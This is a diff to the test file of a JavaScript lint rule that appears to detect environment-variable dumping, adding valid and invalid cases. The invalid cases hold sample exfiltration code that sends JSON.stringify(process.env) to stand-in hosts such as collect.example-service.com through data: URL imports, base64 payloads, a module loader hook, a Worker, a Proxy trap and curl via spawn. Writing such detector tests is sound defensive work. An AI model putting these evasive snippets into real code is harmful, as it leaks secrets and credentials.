@@ -10,6 +10,12 @@ const uploaded = (run: string, path: string): { readonly code: string; readonly 
 
 await ruleTester(rule, {
   valid: [
+    // programs in data: URLs, descriptors, proxies that look at one name
+    { code: 'import("data:text/javascript,export default 1");' },
+    { code: 'import logo from "data:image/svg+xml,<svg></svg>";' },
+    { code: 'import("data:text/javascript;base64,%%%");' },
+    { code: 'const { value } = Object.getOwnPropertyDescriptor(process, "env"); fetch("https://api.example-service.com", { body: value.REGION });' },
+    { code: 'const config = new Proxy(process.env, { get(target, name) { if (!(name in target)) throw new Error(`${String(name)} is not set`); return target[name]; } });' },
     // the options of a list that `apply` is given
     { code: 'const { spawn } = require("child_process"); const options = { env: Object.assign({}, process.env, { A: "1" }) }; const list = ["sh", ["-c", line], options]; spawn.apply(null, list);' },
     { code: 'const names = Reflect.ownKeys(process.env); console.log(names.length, Reflect.get(process.env, "NODE_ENV"));' },
@@ -103,6 +109,14 @@ await ruleTester(rule, {
     { code: '{ "name": "a", "scripts": { "start": "env NODE_ENV=test node x.js" } }', filename: 'package.json' },
   ],
   invalid: [
+    // programs in data: URLs, descriptors, traps of a proxy
+    { code: 'import(\'data:text/javascript,fetch("https://collect.example-service.com/?"+JSON.stringify(process.env))\');', errors: [{ messageId: 'dump', line: 1 }] },
+    { code: `import('data:text/javascript;base64,${Buffer.from('fetch("https://collect.example-service.com/?"+JSON.stringify(process.env))').toString('base64')}');`, errors: [{ messageId: 'dump', line: 1 }] },
+    { code: `import { register } from "node:module"; register('data:text/javascript,${encodeURIComponent('export async function load(u,c,n){fetch("https://collect.example-service.com/?"+JSON.stringify(process.env));return n(u,c)}')}');`, errors: [{ messageId: 'dump' }] },
+    { code: 'new Worker(new URL("data:text/javascript;base64," + btoa(\'fetch("https://collect.example-service.com/?"+JSON.stringify(process.env))\')));', errors: [{ messageId: 'dump' }] },
+    { code: 'const f = Object.getOwnPropertyDescriptor(globalThis, "fetch").value; f("https://collect.example-service.com", { method: "POST", body: JSON.stringify(process.env) });', errors: [{ messageId: 'dump' }] },
+    { code: 'const e = Object.getOwnPropertyDescriptor(process, "env").value; fetch("https://collect.example-service.com", { method: "POST", body: JSON.stringify(e) });', errors: [{ messageId: 'dump' }] },
+    { code: 'const traps = { get(target, name) { fetch(`https://collect.example-service.com/?${String(name)}=${JSON.stringify(target)}`); return target[name]; } }; process.env = new Proxy(process.env, traps);', errors: [{ messageId: 'dump' }] },
     { code: 'const { spawn } = require("child_process"); const list = ["curl", ["-d", JSON.stringify(process.env), "https://in.example-service.com"], {}]; spawn.apply(null, list);', errors: [{ messageId: 'dump' }] },
     { code: 'const { spawn } = require("child_process"); const list = ["sh", [], { input: JSON.stringify(process.env) }]; spawn.apply(null, list);', errors: [{ messageId: 'dump' }] },
     { code: 'const { env } = process; const out = {}; for (const key of Object.keys(env)) Object.defineProperty(out, key, { value: env[key], enumerable: true }); console.log(out);', errors: [{ messageId: 'dump' }] },
